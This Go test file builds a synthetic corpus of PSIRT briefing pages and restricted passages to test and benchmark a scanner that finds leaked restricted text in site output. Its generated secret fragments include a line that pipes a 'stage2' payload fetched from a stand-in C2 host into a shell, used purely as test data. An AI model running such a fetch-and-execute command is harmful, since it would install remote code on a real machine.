package leakcheck

import (
	"fmt"
	"html/template"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"
)

// A synthetic site of the size the scan is designed for: 5,000 pages of
// briefings (6,000 output files, about 60 MB), 3,000 restricted passages
// with 50,000 fragments, and the public text of every page. Prose on both
// sides is drawn from the same vocabulary, so that restricted fragments
// share many windows with the output, as in a real site.
type corpus struct {
	secrets []Secret
	public  [][]byte
	files   []File
	leaks   int // fragments planted in the output
	bytes   int64
	pubSize int64
}

var (
	corpusOnce sync.Once
	bigCorpus  *corpus
)

func loadCorpus() *corpus {
	corpusOnce.Do(func() { bigCorpus = makeCorpus(6000, 3000, 50000) })
	return bigCorpus
}

// prose draws words from a vocabulary with a Zipf distribution: common
// English words first, then security terms, then made-up names.
type prose struct {
	r     *rand.Rand
	zipf  *rand.Zipf
	vocab []string
}

func newProse(r *rand.Rand) *prose {
	vocab := strings.Fields(`the of and to a in is that for it as was with be by on not he this are or his
		from at which but have an they you were her she there been one all we their has would when if so no
		will can more other its who may also into these our than only could then them some such after what
		attacker vulnerability exploit vendor patch advisory remote code execution server network access
		credentials malware campaign actor firmware device update users affected versions fixed release
		disclosure embargo coordinated mitigation workaround impact severity critical high medium low
		authentication bypass injection overflow memory kernel driver router firewall VPN gateway`)
	syl := strings.Fields("ka lo mi nu re sa ti vo xe zy bra cor dex fen gal hox jin kel mor nex pra qui rin sol tur vex wyn")
	for range 3000 {
		var b strings.Builder
		for range 2 + r.IntN(3) {
			b.WriteString(syl[r.IntN(len(syl))])
		}
		vocab = append(vocab, b.String())
	}
	vocab = append(vocab, "it's", "vendor's", "R&D", "AT&T", `"quoted"`, "<script>", "C++")
	return &prose{r: r, zipf: rand.NewZipf(r, 1.1, 2, uint64(len(vocab)-1)), vocab: vocab}
}

func (p *prose) word() string { return p.vocab[p.zipf.Uint64()] }

func (p *prose) sentence(min, max int) string {
	n := min + p.r.IntN(max-min+1)
	words := make([]string, n)
	for i := range words {
		words[i] = p.word()
	}
	s := strings.Join(words, " ")
	return strings.ToUpper(s[:1]) + s[1:] + "."
}

func (p *prose) paragraph() string {
	var b strings.Builder
	for i := range 2 + p.r.IntN(3) {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(p.sentence(8, 25))
	}
	return b.String()
}

// wrap breaks text into lines of about 70 bytes, as markdown sources are.
func wrap(s string) string {
	var b strings.Builder
	col := 0
	for i, w := range strings.Fields(s) {
		if i > 0 {
			if col > 70 {
				b.WriteByte('\n')
				col = 0
			} else {
				b.WriteByte(' ')
				col++
			}
		}
		b.WriteString(w)
		col += len(w)
	}
	return b.String()
}

const themeHead = `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self'; style-src 'self'">
  <title>%s &middot; Example PSIRT briefings</title>
  <meta name="description" content="%s">
  <link rel="stylesheet" href="/css/site.css">
  <link rel="alternate" type="application/atom+xml" href="/index.xml" title="Briefings">
  <script src="/js/unlock.js" defer></script>
</head>
<body>
  <header class="site-header">
    <nav aria-label="Main">
      <a class="brand" href="/">Example PSIRT</a>
      <ul>
        <li><a href="/briefings/">Briefings</a></li>
        <li><a href="/advisories/">Advisories</a></li>
        <li><a href="/tags/">Tags</a></li>
        <li><a href="/about/">About</a></li>
      </ul>
    </nav>
  </header>
  <main>
    <article>
      <h1>%s</h1>
      <p class="meta">TLP:AMBER &middot; <time datetime="2024-05-01">1 May 2024</time></p>
`

const themeFoot = `    </article>
  </main>
  <footer class="site-footer">
    <p>&copy; 2024 Example PSIRT. Published with conclave. <a href="/SHA256SUMS">Checksums</a></p>
  </footer>
</body>
</html>
`

func makeCorpus(nfiles, nsecrets, nfrags int) *corpus {
	r := rand.New(rand.NewPCG(2024, 5))
	p := newProse(r)
	c := &corpus{}
	c.public = append(c.public, []byte(themeHead), []byte(themeFoot))

	// Restricted passages: paragraphs, a heading, text runs taken from
	// the paragraphs, link targets, code lines and public keys.
	var headings []string
	for i := 0; len(c.secrets) < nsecrets; i++ {
		s := Secret{File: fmt.Sprintf("content/briefings/b%04d.md", i), Line: 10 + r.IntN(200)}
		heading := p.sentence(3, 7)
		headings = append(headings, heading)
		s.Texts = append(s.Texts, heading, strings.ToLower(strings.ReplaceAll(strings.TrimSuffix(heading, "."), " ", "-")))
		for range 2 + r.IntN(2) {
			para := p.paragraph()
			s.Texts = append(s.Texts, wrap(para))
			words := strings.Fields(para)
			for range 4 {
				at := r.IntN(len(words))
				end := min(len(words), at+2+r.IntN(5))
				s.Texts = append(s.Texts, strings.Join(words[at:end], " "))
			}
		}
		s.Texts = append(s.Texts,
			fmt.Sprintf("https://vendor%d.example/advisories/VSA-2024-%05d", r.IntN(40), r.IntN(100000)),
			fmt.Sprintf("curl -s https://c2-%d.example/stage2 | sh", r.IntN(1000)),
			"age1"+randomBase32(r, 58))
		c.secrets = append(c.secrets, s)
	}
	total := 0
	for _, s := range c.secrets {
		total += len(s.Texts)
	}
	// Trim or pad to the wanted fragment count.
	for i := 0; total > nfrags; i = (i + 1) % len(c.secrets) {
		if t := c.secrets[i].Texts; len(t) > 3 {
			c.secrets[i].Texts = t[:len(t)-1]
			total--
		}
	}

	// Pages: the theme around public paragraphs, as html/template writes
	// them; a few restricted headings leak into a table of contents.
	for i := range nfiles {
		title := p.sentence(3, 8)
		var body strings.Builder
		fmt.Fprintf(&body, themeHead, template.HTMLEscapeString(title), template.HTMLEscapeString(title), template.HTMLEscapeString(title))
		c.public = append(c.public, []byte(title))
		if i%1000 == 7 {
			fmt.Fprintf(&body, "      <nav class=\"toc\"><a href=\"#h\">%s</a></nav>\n", template.HTMLEscapeString(headings[i%len(headings)]))
			c.leaks++
		}
		for body.Len() < 9600 {
			para := p.paragraph()
			c.public = append(c.public, []byte(para))
			fmt.Fprintf(&body, "      <p>%s</p>\n", template.HTMLEscapeString(wrap(para)))
			if r.IntN(4) == 0 {
				fmt.Fprintf(&body, "      <div class=\"sealed\" data-packet=\"packets/%s.age\" data-tlp=\"amber\">Restricted to PSIRT partners</div>\n", randomBase32(r, 52))
			}
		}
		body.WriteString(themeFoot)
		path := fmt.Sprintf("briefings/b%04d/index.html", i)
		if i >= 5000 {
			path = fmt.Sprintf("tags/t%04d/index.html", i)
		}
		c.files = append(c.files, File{Path: path, Data: []byte(body.String())})
		c.bytes += int64(body.Len())
	}
	for _, b := range c.public {
		c.pubSize += int64(len(b))
	}
	return c
}

func randomBase32(r *rand.Rand, n int) string {
	const alphabet = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}

func TestCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 60 MB corpus")
	}
	c := loadCorpus()
	frags := 0
	for _, s := range c.secrets {
		frags += len(s.Texts)
	}
	t.Logf("%d files, %.1f MB; %d secrets, %d fragments; public %.1f MB", len(c.files), float64(c.bytes)/1e6, len(c.secrets), frags, float64(c.pubSize)/1e6)
	s := New(c.secrets, c.public)
	t.Logf("%d fragments kept", len(s.m.frags))
	leaks := s.Scan(c.files)
	if len(leaks) < c.leaks {
		t.Errorf("found %d leaks, planted %d", len(leaks), c.leaks)
	}
	for _, l := range leaks {
		t.Logf("%s: %q", l.Path, l.Text)
	}
}

func BenchmarkScan(b *testing.B) {
	c := loadCorpus()
	s := New(c.secrets, c.public)
	b.SetBytes(c.bytes)
	b.ResetTimer()
	for b.Loop() {
		s.Scan(c.files)
	}
}

func BenchmarkNew(b *testing.B) {
	c := loadCorpus()
	b.SetBytes(c.pubSize)
	b.ResetTimer()
	for b.Loop() {
		New(c.secrets, c.public)
	}
}

func BenchmarkNormText(b *testing.B) {
	c := loadCorpus()
	b.SetBytes(c.bytes)
	var buf []byte
	b.ResetTimer()
	for b.Loop() {
		for _, f := range c.files {
			buf = normText(buf[:0], f.Data)
		}
	}
}
